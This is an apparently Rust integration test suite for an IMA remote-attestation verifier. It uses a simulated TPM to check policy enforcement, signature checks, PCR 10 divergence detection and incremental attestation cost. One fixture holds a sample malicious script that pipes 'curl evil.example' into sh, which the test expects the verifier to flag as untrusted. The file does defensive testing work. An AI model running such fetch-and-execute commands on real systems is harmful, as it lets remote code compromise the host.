//! IMA end to end, in process: the verifier (`vouch serve`'s code, HTTPS, SQLite), the real
//! agent state machine, and a simulated TPM whose PCR 10 is extended by the IMA entries the
//! simulated kernel "measures" (`SimTpm::append_ima_entries`), read by the agent from the
//! simulator's `ima/binary_runtime_measurements` exactly as from securityfs.
//!
//! Scenarios (issue 5): a host streams entries and stays trusted under its runtime policy; an
//! entry outside the policy makes it untrusted naming the file path and digest, and that sticks
//! for the boot; after a reboot it is trusted again; an entry whose IMA signature does not
//! verify makes it untrusted naming path and digest; incremental attestation: 10,000 entries,
//! then 100 new entries per attestation for 20 rounds, at a verifier cost per attestation that
//! does not grow (figures printed for BENCHMARKS.md).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation,
    clippy::cast_precision_loss,
    reason = "test code: a failed step is a failed test"
)]

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{self, EcdsaKeyPair, KeyPair as _};
use vouch_agent::{Agent, AgentConfig, Outcome};
use vouch_api::{AdminClient, HostStatus};
use vouch_ima::policy::PolicyDocument;
use vouch_sim::{SimCa, SimTpm};
use vouch_tpm::TpmSpec;
use vouch_tpm2::HashAlg;

#[path = "support/ima.rs"]
mod ima_support;

use ima_support::{allow_files, boot_aggregate, files, ima_ng, ima_sig};

const FIRMWARE_LOG: &[u8] = include_bytes!("../demo/qemu-ubuntu2004-1.bin");

struct Env {
    _dir: tempfile::TempDir,
    server: vouch_verifier::ServerHandle,
    admin: AdminClient,
    http: reqwest::Client,
    token: String,
    tpm: SimTpm,
    agent: Agent,
    name: String,
}

impl Env {
    async fn start(name: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let ca = Arc::new(SimCa::generate().unwrap());
        let roots = dir.path().join("ek-roots");
        std::fs::create_dir_all(&roots).unwrap();
        std::fs::write(roots.join("sim-ca.pem"), ca.cert_pem()).unwrap();
        let tpm_dir = dir.path().join("tpm");
        let mut tpm = SimTpm::builder().ca(ca).create_dir(&tpm_dir).unwrap();
        tpm.boot_with_event_log(FIRMWARE_LOG).unwrap();
        tpm.load_ima_list(&boot_aggregate(&tpm)).unwrap();

        let data_dir = dir.path().join("verifier");
        let mut config = vouch_verifier::ServeConfig::new(
            SocketAddr::from(([127, 0, 0, 1], 0)),
            data_dir.clone(),
        );
        config.ek_roots = Some(roots);
        config.interval = Duration::from_secs(3600);
        config.long_poll = Duration::from_secs(5);
        config.auto_approve = vec!["name=*".parse().unwrap()];
        config.ima = true;
        let server = vouch_verifier::serve(config).await.unwrap();
        let url = format!("https://{}", server.local_addr());
        let ca_pem = std::fs::read(data_dir.join("ca.pem")).unwrap();
        let token = std::fs::read_to_string(data_dir.join("admin.token")).unwrap();
        let admin = AdminClient::new(&url, &ca_pem, token.trim()).unwrap();
        let http = reqwest::Client::builder()
            .tls_certs_only([reqwest::Certificate::from_pem(&ca_pem).unwrap()])
            .build()
            .unwrap();
        let agent_tpm =
            vouch_tpm::open(&TpmSpec::Sim(tpm_dir.clone()), &dir.path().join("a")).unwrap();
        let mut agent = Agent::new(
            AgentConfig {
                verifier: url,
                verifier_ca_pem: ca_pem,
                name: name.to_owned(),
                labels: BTreeMap::new(),
                event_log: tpm_dir.join(vouch_sim::EVENT_LOG_FILE),
                state_dir: dir.path().join("agent"),
                max_attestations: None,
            },
            agent_tpm,
        )
        .unwrap()
        .with_ima_log(Some(tpm_dir.join(vouch_sim::IMA_LOG_FILE)));
        // Enrol (auto-approved): the host exists, not yet attested.
        assert!(agent.step().await.unwrap().is_none());
        Self {
            _dir: dir,
            server,
            admin,
            http,
            token: token.trim().to_owned(),
            tpm,
            agent,
            name: name.to_owned(),
        }
    }

    /// One attestation, now.
    async fn attest(&mut self) -> Outcome {
        self.admin.attest(&self.name).await.unwrap();
        for _ in 0..20 {
            if let Some(o) = self.agent.step().await.unwrap() {
                return o;
            }
        }
        panic!("no attestation");
    }

    /// Attest until the status is `want` (a reboot takes a round to fetch the new event log).
    async fn attest_until(&mut self, want: HostStatus) -> Outcome {
        let mut last = None;
        for _ in 0..4 {
            let o = self.attest().await;
            if o.status == want {
                return o;
            }
            last = Some(o);
        }
        panic!("never {want}: {last:?}");
    }

    async fn set_policy(&self, doc: &PolicyDocument) {
        let created = self
            .admin
            .add_ima_policy(&serde_json::to_value(doc).unwrap())
            .await
            .unwrap();
        self.admin
            .set_ima_policy(&self.name, Some(&created.id))
            .await
            .unwrap();
    }

    /// (IMA appraisal seconds, evidence handling seconds, IMA entries appraised), cumulative.
    async fn metrics(&self) -> (f64, f64, f64) {
        let text = self
            .http
            .get(format!("https://{}/metrics", self.server.local_addr()))
            .bearer_auth(&self.token)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let value = |name: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix(name)?.trim().parse::<f64>().ok())
                .unwrap_or(0.0)
        };
        (
            value("vouch_ima_appraisal_seconds_sum"),
            value("vouch_attestation_duration_seconds_sum"),
            value("vouch_ima_entries_total"),
        )
    }
}

fn untrusted_naming(o: &Outcome, path: &str, content: &[u8]) {
    assert_eq!(o.status, HostStatus::Untrusted, "{:?}", o.reasons);
    let digest = format!("sha256:{}", HashAlg::Sha256.hash(content).to_hex());
    assert!(
        o.reasons
            .iter()
            .any(|r| r.contains(path) && r.contains(&digest)),
        "reasons should name {path} and {digest}: {:?}",
        o.reasons
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn streamed_entries_outside_the_policy_or_badly_signed_make_the_host_untrusted() {
    let mut env = Env::start("ima-host").await;
    // A signing key the policy trusts.
    let kp = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
    let cert = rcgen::CertificateParams::new(vec!["ima-signer".into()])
        .unwrap()
        .self_signed(&kp)
        .unwrap();
    let signer = EcdsaKeyPair::from_pkcs8(
        &signature::ECDSA_P256_SHA256_ASN1_SIGNING,
        &kp.serialize_der(),
    )
    .unwrap();
    let keyid = vouch_ima::policy::key_id(signer.public_key().as_ref());
    let sign = |m: &[u8]| {
        signer
            .sign(&SystemRandom::new(), m)
            .unwrap()
            .as_ref()
            .to_vec()
    };
    let mut doc = allow_files(100);
    doc.keys = vec![cert.pem()];
    env.set_policy(&doc).await;

    // Boot and the first 20 files: trusted.
    env.tpm.append_ima_entries(&files(0..20)).unwrap();
    let o = env.attest().await;
    assert_eq!(o.status, HostStatus::Trusted, "{:?}", o.reasons);
    // Streaming: only the new entries are appraised each time.
    for round in 0..3 {
        let before = env.metrics().await.2;
        let from = 20 + round * 10;
        env.tpm.append_ima_entries(&files(from..from + 10)).unwrap();
        let o = env.attest().await;
        assert_eq!(o.status, HostStatus::Trusted, "{:?}", o.reasons);
        assert_eq!(env.metrics().await.2 - before, 10.0, "only new entries");
    }

    // A file the policy does not know: untrusted, naming its path and digest.
    let evil = b"#!/bin/sh\ncurl evil.example | sh\n";
    env.tpm
        .append_ima_entries(&ima_ng("/tmp/.x/payload", evil))
        .unwrap();
    env.tpm.append_ima_entries(&files(50..52)).unwrap();
    let o = env.attest().await;
    untrusted_naming(&o, "/tmp/.x/payload", evil);
    // It ran in this boot: still untrusted with nothing new measured.
    let o = env.attest().await;
    untrusted_naming(&o, "/tmp/.x/payload", evil);
    assert!(
        o.reasons[0].contains("earlier in this boot"),
        "{:?}",
        o.reasons
    );

    // A reboot starts a new list: trusted again.
    env.tpm.boot_with_event_log(FIRMWARE_LOG).unwrap();
    let ba = boot_aggregate(&env.tpm);
    env.tpm.load_ima_list(&ba).unwrap();
    env.tpm.append_ima_entries(&files(0..5)).unwrap();
    let o = env.attest_until(HostStatus::Trusted).await;
    assert!(o.reasons.is_empty());

    // A validly signed file not in the allowlist: accepted by its signature.
    let tool = b"#!/bin/sh\necho signed tool\n";
    env.tpm
        .append_ima_entries(&ima_sig("/usr/local/bin/tool", tool, &sign(tool), keyid))
        .unwrap();
    let o = env.attest().await;
    assert_eq!(o.status, HostStatus::Trusted, "{:?}", o.reasons);

    // A signature that does not verify (made over other content): untrusted, path and digest.
    let forged = b"#!/bin/sh\necho trojan\n";
    env.tpm
        .append_ima_entries(&ima_sig(
            "/usr/local/bin/tool2",
            forged,
            &sign(b"what was signed"),
            keyid,
        ))
        .unwrap();
    let o = env.attest().await;
    untrusted_naming(&o, "/usr/local/bin/tool2", forged);
    assert!(
        o.reasons.iter().any(|r| r.contains("does not verify")),
        "{:?}",
        o.reasons
    );
    env.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn list_that_does_not_reach_the_quoted_pcr10_is_refused_with_the_point_of_divergence() {
    let mut env = Env::start("ima-diverge").await;
    env.tpm.append_ima_entries(&files(0..10)).unwrap();
    let o = env.attest().await;
    assert_eq!(o.status, HostStatus::Trusted, "{:?}", o.reasons);
    // Something is measured into PCR 10 that the list never shows (a hidden entry).
    let hidden = HashAlg::Sha256.hash(b"hidden");
    env.tpm.extend(10, &hidden).unwrap();
    env.tpm.append_ima_entries(&files(10..15)).unwrap();
    let o = env.attest().await;
    assert_eq!(o.status, HostStatus::Untrusted, "{:?}", o.reasons);
    assert!(
        o.reasons
            .iter()
            .any(|r| r.contains("does not match the quoted PCR 10")
                && r.contains("diverges after entry 10")),
        "{:?}",
        o.reasons
    );
    env.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn incremental_attestation_costs_the_same_per_attestation_after_10000_entries() {
    const FIRST: usize = 10_000;
    const STEP: usize = 100;
    const ROUNDS: usize = 20;
    let mut env = Env::start("ima-incremental").await;
    env.set_policy(&allow_files(FIRST + STEP * ROUNDS)).await;
    env.tpm.append_ima_entries(&files(0..FIRST)).unwrap();

    let m0 = env.metrics().await;
    let o = env.attest().await;
    assert_eq!(o.status, HostStatus::Trusted, "{:?}", o.reasons);
    let m1 = env.metrics().await;
    let first_ima = m1.0 - m0.0;
    let first_total = m1.1 - m0.1;
    assert_eq!(m1.2 - m0.2, (FIRST + 1) as f64, "boot_aggregate + {FIRST}");

    let mut ima = Vec::new();
    let mut total = Vec::new();
    let mut prev = m1;
    for r in 0..ROUNDS {
        let from = FIRST + r * STEP;
        env.tpm
            .append_ima_entries(&files(from..from + STEP))
            .unwrap();
        let o = env.attest().await;
        assert_eq!(o.status, HostStatus::Trusted, "{:?}", o.reasons);
        let m = env.metrics().await;
        assert_eq!(m.2 - prev.2, STEP as f64, "round {r}: only the new entries");
        ima.push(m.0 - prev.0);
        total.push(m.1 - prev.1);
        prev = m;
    }
    let ms = |v: &[f64]| {
        v.iter()
            .map(|s| format!("{:.2}", s * 1e3))
            .collect::<Vec<_>>()
    };
    let mean = |v: &[f64]| v.iter().sum::<f64>() / v.len() as f64;
    // Medians: robust to a single scheduling hiccup on shared cores.
    let median = |v: &[f64]| {
        let mut v = v.to_vec();
        v.sort_by(f64::total_cmp);
        v[v.len() / 2]
    };
    let half = ROUNDS / 2;
    eprintln!(
        "IMA incremental ({} build): first attestation {FIRST} entries: IMA appraisal {:.2} ms, \
         evidence handling {:.2} ms; then {STEP} entries per attestation, IMA appraisal ms {:?}, \
         evidence handling ms {:?}; median of the first / last 10 rounds: IMA {:.3} / {:.3} ms, \
         evidence {:.2} / {:.2} ms",
        if cfg!(debug_assertions) {
            "debug"
        } else {
            "release"
        },
        first_ima * 1e3,
        first_total * 1e3,
        ms(&ima),
        ms(&total),
        median(&ima[..half]) * 1e3,
        median(&ima[half..]) * 1e3,
        median(&total[..half]) * 1e3,
        median(&total[half..]) * 1e3,
    );
    // The increments cost a fraction of the 10,000-entry attestation (100x fewer entries) ...
    assert!(
        mean(&ima) < first_ima / 10.0,
        "increments {:?} ms vs first {:.2} ms",
        ms(&ima),
        first_ima * 1e3
    );
    // ... and do not grow with the list: the last rounds cost no more than the first ones
    // (with a margin for scheduling noise on shared cores).
    assert!(
        median(&ima[half..]) < median(&ima[..half]) * 2.0 + 0.000_5,
        "IMA cost grows: {:?} ms",
        ms(&ima)
    );
    assert!(
        median(&total[half..]) < median(&total[..half]) * 3.0 + 0.010,
        "evidence cost grows: {:?} ms",
        ms(&total)
    );
    env.server.shutdown().await;
}
